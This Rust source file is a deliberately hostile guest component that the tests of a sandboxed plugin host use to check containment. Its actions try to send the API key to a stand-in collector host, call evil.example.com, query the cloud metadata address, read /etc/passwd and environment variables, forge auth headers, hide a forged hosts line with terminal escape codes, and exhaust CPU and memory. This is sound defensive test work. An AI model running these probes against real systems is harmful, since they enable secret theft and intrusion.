//! A deliberately hostile destination. Each action tries one thing the host
//! must contain; the tests in `tests/sandbox.rs` check that each is stopped
//! with the right error and that the host and other calls carry on.
//!
//! Some attacks are in the description itself (a key declared twice, an auth
//! binding that writes the `host` header). The tests get those by patching
//! [`VARIANT`] in a copy of the built component: `describe` reads it at run
//! time and answers with that variant's description.

use sluice_guest::prelude::*;

const API: &str = "https://api.hostile.test";

fn ok(body: String) -> Result<Response> {
    Ok(Response { status: 200, headers: Vec::new(), body: body.into_bytes() })
}

const fn action(key: &'static str, perform: fn(&Payload, &Payload) -> Result<Response>) -> Action {
    Action { key, title: key, description: "", default_subscription: None, fields: &[], perform, batch: None }
}

/// Patched by the tests (same length) to pick a description variant.
static VARIANT: [u8; 40] = *b"sluice-hostile-variant:normal...........";

fn variant() -> String {
    // A volatile read, so the compiler cannot fold the marker away.
    let bytes: [u8; 40] = unsafe { std::ptr::read_volatile(&VARIANT) };
    String::from_utf8_lossy(&bytes["sluice-hostile-variant:".len()..]).trim_end_matches('.').to_string()
}

/// Sends `payload.body` to `payload.url` with `payload.headers`, unauthenticated.
fn send_given(payload: &Payload) -> Result<Response> {
    let mut request = Request::post(payload.str("url").unwrap_or_default());
    if let Some(Value::Object(headers)) = payload.get("headers") {
        for (k, v) in headers {
            request = request.header(&k, v.as_str().unwrap_or_default());
        }
    }
    if let Some(body) = payload.str("body") {
        request = request.body(body.into_bytes());
    }
    request.send()
}

const BASE: Destination = Destination {
    name: "Hostile",
    slug: "hostile",
    description: "Tries to escape the sandbox.",
    settings: &[
        Setting { key: "apiKey", label: "API Key", description: "", ty: FieldType::Password, required: true, secret: true },
        Setting { key: "region", label: "Region", description: "", ty: FieldType::String, required: false, secret: false },
    ],
    actions: &[
        // Behaves: one authenticated request to its declared API.
        action("ok", |_, _| Request::post(format!("{API}/ok")).auth("apiKey").json(&json!({"hello": "world"})).send()),
        action("loop", |_, _| {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }),
        action("hog", |_, _| {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }),
        action("panic", |_, _| panic!("hostile guest gives up")),
        // Writes 200 KiB to stdout, then behaves: too chatty is not broken.
        action("chatty", |_, _| {
            for i in 0..4000 {
                println!("line {i}: {}", "x".repeat(40));
            }
            Request::post(format!("{API}/ok")).auth("apiKey").send()
        }),
        // Fetches whatever URL the test hands it, without credentials.
        Action {
            fields: &[Field::string("url", "URL")],
            ..action("fetch", |payload, _| Request::get(payload.str("url").unwrap_or_default()).send())
        },
        // Sends requests until the host says stop.
        action("flood", |_, _| {
            let mut last = Err(Error::guest("never sent"));
            for _ in 0..5000 {
                last = Request::get("https://evil.example.com/").send();
                if last.as_ref().is_err_and(|e| e.message.contains("requests in one call")) {
                    break;
                }
            }
            last
        }),
        action("undeclared", |_, _| Request::get("https://evil.example.com/collect").send()),
        action("private-ip", |_, _| Request::get("https://169.254.169.254/latest/meta-data/").send()),
        action("loopback", |_, _| Request::get("https://127.0.0.1:9/").send()),
        // Sends the secret to a declared host its auth binding does not cover.
        action("exfiltrate", |_, _| Request::post("https://collector.hostile.test/steal").auth("apiKey").send()),
        // Tries to set the credential header itself.
        action("forge-auth", |_, _| Request::get(format!("{API}/x")).header("authorization", "Bearer guessed").send()),
        // A 1 MiB header value.
        action("big-header", |_, _| Request::get(format!("{API}/x")).header("x-big", "h".repeat(1 << 20)).send()),
        // 4 MiB bodies, a thousand times: the host must stop it long before 4 GB.
        action("big-bodies", |_, _| {
            let body = vec![b'b'; 4 << 20];
            let mut last = Err(Error::guest("never sent"));
            for _ in 0..1000 {
                last = Request::post(format!("{API}/x")).body(body.clone()).send();
                if last.is_err() {
                    break;
                }
            }
            last
        }),
        action("send-given", |payload, _| send_given(payload)),
        // Returns what the API answered as its error message.
        action("echo", |_, _| {
            let answer = Request::get(format!("{API}/echo")).auth("apiKey").send()?;
            Err(Error::guest(format!("the API said {}", answer.text())))
        }),
        // Fails, logs and prints whatever it is handed.
        Action { fields: &[Field::string("message", "Message")], ..action("say", |payload, _| {
            let message = payload.str("message").unwrap_or_default();
            sluice_guest::log(sluice_guest::LogLevel::Error, &message);
            eprintln!("{message}");
            Err(Error::guest(message))
        }) },
        // Sleeps (waiting, not computing) for `payload.ms` milliseconds.
        action("sleep", |payload, _| {
            let ms = payload.get("ms").and_then(|v| v.as_u64()).unwrap_or(5000);
            std::thread::sleep(std::time::Duration::from_millis(ms));
            ok(String::new())
        }),
        // Counts its calls in a global: what a warm instance keeps.
        action("count", |_, _| {
            static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
            ok((CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1).to_string())
        }),
        // Leaks 4 MiB per call.
        action("leak", |_, _| {
            std::mem::forget(std::hint::black_box(vec![1u8; 4 << 20]));
            ok(String::new())
        }),
        // Computes for `payload.ms` milliseconds, then returns.
        action("spin", |payload, _| {
            let ms = payload.get("ms").and_then(|v| v.as_u64()).unwrap_or(100);
            let started = std::time::Instant::now();
            while started.elapsed() < std::time::Duration::from_millis(ms) {
                std::hint::black_box(started);
            }
            ok(String::new())
        }),
        // A 25 MB error message.
        action("huge-error", |_, _| Err(Error::guest("e".repeat(25 << 20)))),
        // Reports everything it can see; the secret must not be in it, and
        // no file can be read, listed or written.
        action("snoop", |_, settings| {
            let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            let shown = |r: std::io::Result<String>| r.map_or_else(|e| format!("error: {e}"), |s| format!("read: {s}"));
            let list = |p: &str| std::fs::read_dir(p).map(|d| d.filter_map(|e| e.ok()).map(|e| e.path().display().to_string()).collect::<Vec<_>>().join(","));
            ok(json!({
                "settings": settings.clone().into_value(),
                "env": env,
                "args": std::env::args().collect::<Vec<_>>(),
                "files": {
                    "read /etc/passwd": shown(std::fs::read_to_string("/etc/passwd")),
                    "read ./Cargo.toml": shown(std::fs::read_to_string("Cargo.toml")),
                    "list /": shown(list("/")),
                    "list .": shown(list(".")),
                    "write /tmp/x": shown(std::fs::write("/tmp/sluice-hostile", b"x").map(|_| String::new())),
                },
            })
            .to_string())
        }),
    ],
    presets: &[],
    hosts: &[
        API,
        "https://169.254.169.254",
        "https://127.0.0.1:9",
        "https://collector.hostile.test",
        "https://localhost",
        "https://[::ffff:127.0.0.1]",
        "https://[::1]",
    ],
    auth: &[AuthBinding { secret: "apiKey", header: "authorization", format: "Bearer {secret}", hosts: &[API], sign: None }],
    rate_budget: None,
    test_authentication: None,
};

pub static HOSTILE: Destination = BASE;

const DUP_SECRET: Destination = Destination {
    settings: &[
        Setting { key: "apiKey", label: "API Key", description: "", ty: FieldType::Password, required: true, secret: true },
        Setting { key: "apiKey", label: "API Key", description: "", ty: FieldType::String, required: true, secret: false },
    ],
    ..BASE
};

const HOST_HEADER: Destination = Destination {
    auth: &[AuthBinding { secret: "apiKey", header: "Host", format: "{secret}", hosts: &[API], sign: None }],
    ..BASE
};

const DUP_ACTION: Destination = Destination { actions: &[action("ok", |_, _| ok(String::new())), action("ok", |_, _| ok(String::new()))], ..BASE };

const DUP_FIELD: Destination = Destination {
    actions: &[Action {
        fields: &[Field::string("id", "Id"), Field::string("id", "Id again")],
        ..action("ok", |_, _| ok(String::new()))
    }],
    ..BASE
};

const DUP_PRESET: Destination = Destination {
    presets: &[
        Preset { name: "Twice", subscribe: r#"type = "track""#, action: "ok" },
        Preset { name: "Twice", subscribe: r#"type = "track""#, action: "ok" },
    ],
    ..BASE
};

/// ESC sequences in the description: they would hide the real `hosts:` line
/// of `describe` and print a forged one.
const ESCAPES: Destination = Destination {
    description: "Harmless.\u{1b}[1A\u{1b}[2K\rhosts: https://api.hostile.test",
    actions: &[Action { title: "Ok\u{1b}[8m", ..action("ok", |_, _| ok(String::new())) }],
    ..BASE
};

/// Lets a setting decide where the key goes, constrained to a pattern.
const CONSTRAINED: Destination = Destination {
    hosts: &["{region|https://*.hostile.test}"],
    auth: &[AuthBinding { secret: "apiKey", header: "authorization", format: "Bearer {secret}", hosts: &["{region|https://*.hostile.test}"], sign: None }],
    ..BASE
};

/// Signs instead of sending the key: `x-signature: sha256=<hex HMAC of the body>`.
const SIGNED: Destination = Destination {
    auth: &[AuthBinding {
        secret: "apiKey",
        header: "x-signature",
        format: "sha256={signature}",
        hosts: &[API],
        sign: Some(SignatureEncoding::Hex),
    }],
    ..BASE
};

struct Hostile;

impl sluice_guest::__export::Guest for Hostile {
    fn describe() -> sluice_guest::bindings::sluice::destination::types::DestinationInfo {
        let d = match variant().as_str() {
            "dup-secret" => &DUP_SECRET,
            "host-header" => &HOST_HEADER,
            "dup-action" => &DUP_ACTION,
            "dup-field" => &DUP_FIELD,
            "dup-preset" => &DUP_PRESET,
            "escapes" => &ESCAPES,
            "constrained" => &CONSTRAINED,
            "signed" => &SIGNED,
            _ => &HOSTILE,
        };
        sluice_guest::__export::describe(d)
    }
    fn perform(
        action: String,
        payload: String,
        settings: String,
    ) -> std::result::Result<
        sluice_guest::bindings::sluice::destination::types::Outcome,
        sluice_guest::bindings::sluice::destination::types::Error,
    > {
        sluice_guest::__export::perform(&HOSTILE, &action, payload, settings)
    }
    fn perform_batch(
        action: String,
        payloads: Vec<String>,
        settings: String,
    ) -> Vec<
        std::result::Result<
            sluice_guest::bindings::sluice::destination::types::Outcome,
            sluice_guest::bindings::sluice::destination::types::Error,
        >,
    > {
        sluice_guest::__export::perform_batch(&HOSTILE, &action, payloads, settings)
    }
    fn test_authentication(
        settings: String,
    ) -> std::result::Result<(), sluice_guest::bindings::sluice::destination::types::Error> {
        sluice_guest::__export::test_authentication(&HOSTILE, settings)
    }
}

sluice_guest::bindings::export_component!(Hostile with_types_in sluice_guest::bindings);
